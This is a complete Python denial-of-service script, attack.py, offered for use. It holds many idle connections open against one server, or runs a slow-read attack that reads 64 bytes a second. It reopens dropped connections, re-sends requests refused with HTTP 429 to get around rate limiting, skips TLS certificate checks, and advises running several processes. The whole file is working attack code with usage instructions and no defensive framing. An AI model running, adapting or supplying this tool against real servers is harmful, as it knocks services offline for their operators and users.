"""Attacks one server with connections, and prints what it held when it is told to end.

    attack.py idle URL COUNT SOURCE            connections that say nothing; 200 a second are
                                               opened again when they are closed
    attack.py slow URL COUNT SOURCE TARGET     connections that ask for TARGET and read 64 bytes a second; one that is
                                               refused asks again

Runs until standard input ends. A process holds what its limit on open files allows; start several.
"""

import select
import socket
import ssl
import sys
import time
from urllib.parse import urlsplit

READ_BYTES = 64
BATCH = 256
# Connections opened in the place of closed ones, a second.
REOPENED = 200


class Attack:
    def __init__(self, url, count, source, request):
        parts = urlsplit(url)
        self.address = (parts.hostname, parts.port)
        self.is_tls = parts.scheme == "https"
        self.count, self.source, self.request = count, source, request
        self.open, self.opened, self.closed, self.failed, self.refused = {}, 0, 0, 0, 0
        self.epoll = select.epoll()
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE

    def connect(self):
        """Opens one connection and sends its request; the answer is not awaited."""
        stream = socket.socket()
        try:
            if self.request:
                stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            stream.settimeout(10)
            # The port is chosen by `connect`, which takes one in use to another address too.
            stream.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            stream.bind((self.source, 0))
            stream.connect(self.address)
            if self.is_tls:
                stream = self.context.wrap_socket(stream)
            if self.request:
                stream.sendall(self.request)
        except OSError:
            self.failed += 1
            stream.close()
            return
        stream.setblocking(False)
        self.opened += 1
        self.open[stream.fileno()] = stream
        self.epoll.register(stream.fileno(), select.EPOLLRDHUP if self.request else select.EPOLLIN)

    def drop(self, number):
        stream = self.open.pop(number, None)
        if stream:
            self.epoll.unregister(number)
            stream.close()
            self.closed += 1

    def drop_ended(self):
        for number, _ in self.epoll.poll(0, 65536):
            self.drop(number)

    def trickle(self):
        for number, stream in list(self.open.items()):
            try:
                read = stream.recv(READ_BYTES)
                if read.startswith(b"HTTP/1.1 429"):
                    self.refused += 1
                    stream.send(self.request)
                if not read:
                    self.drop(number)
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                self.drop(number)

    def run(self):
        start = due = time.monotonic()
        while not has_ended():
            allowed = self.count + REOPENED * (time.monotonic() - start) - self.opened - self.failed
            wanted = min(BATCH, self.count - len(self.open), int(allowed))
            for _ in range(wanted):
                # A busy server makes each connection wait.
                if has_ended():
                    break
                self.connect()
            self.drop_ended()
            if self.request and time.monotonic() >= due:
                due = time.monotonic() + 1
                self.trickle()
            if wanted <= 0:
                time.sleep(0.05)
        print(
            f"{self.opened} connections opened, {self.closed} closed by the server, {self.failed} failed, "
            f"{len(self.open)} held at the end, {self.refused} answers were 429",
            flush=True,
        )


def has_ended():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def main():
    kind, url, count, source, *target = sys.argv[1:]
    if kind not in ("idle", "slow") or (kind == "slow") != bool(target):
        sys.exit(__doc__)
    host = urlsplit(url).netloc
    request = f"GET {target[0]} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() if target else b""
    Attack(url, int(count), source, request).run()


main()
